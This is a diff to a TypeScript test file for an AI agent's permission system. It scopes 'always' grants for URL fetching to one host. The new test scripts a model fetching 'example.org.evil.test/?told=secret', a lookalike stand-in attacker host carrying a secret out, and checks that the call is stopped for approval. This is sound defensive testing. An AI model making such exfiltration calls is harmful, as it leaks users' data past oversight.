@@ -111,9 +111,24 @@ describe('permission', () => {
     b.events.length = 0
     await b.agent.answer(b.id, 'c1', 'always here')
     expect(await b.rest(b.id)).toEqual({ state: 'idle' })
-    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', tool: 'write_file' }])
+    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', grant: 'write_file' }])
     await b.agent.revoke(b.id, 'write_file')
     expect(await say(b, b.id, 'And this')).toMatchObject({ state: 'asking' })
+  })
+
+  it('for good is for one host: a model cannot carry what it read to another one', async () => {
+    const read = (url: string, id: string) => call('fetch_url', { url }, id)
+    const b = await opened([read('https://example.org/', 'c1'), read('https://EXAMPLE.org/more', 'c2'), read('https://example.org.evil.test/?told=secret', 'c3'), 'Done.'])
+    await say(b, b.id, 'Read it')
+    b.events.length = 0
+    await b.agent.answer(b.id, 'c1', 'always here')
+    expect(await b.rest(b.id)).toMatchObject({ state: 'asking', question: { call: { id: 'c3' }, host: 'example.org.evil.test' } })
+    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', grant: 'fetch_url example.org' }])
+    b.events.length = 0
+    await b.agent.answer(b.id, 'c3', 'deny')
+    await b.rest(b.id)
+    await b.agent.revoke(b.id, 'fetch_url example.org')
+    expect(await b.agent.permissions()).toEqual([])
   })
 
   it('is good for one call only, although its id comes again in the next step', async () => {
@@ -171,7 +186,7 @@ describe('stop', () => {
       readPage: (_url, signal) => new Promise((_resolve, reject) => { signal.addEventListener('abort', () => { reject(new AgentError('stopped', 'stopped')) }, { once: true }) }),
     })
     const { id } = await slow.agent.create()
-    await slow.store.updateSession(id, { allowed: ['fetch_url'] })
+    await slow.store.updateSession(id, { allowed: ['fetch_url example.org'] })
     await slow.agent.send(id, 'Read it')
     while (!slow.events.some(event => event.type === 'status' && event.status.state === 'running')) await new Promise(resolve => { setTimeout(resolve, 1) })
     await slow.agent.stop(id)
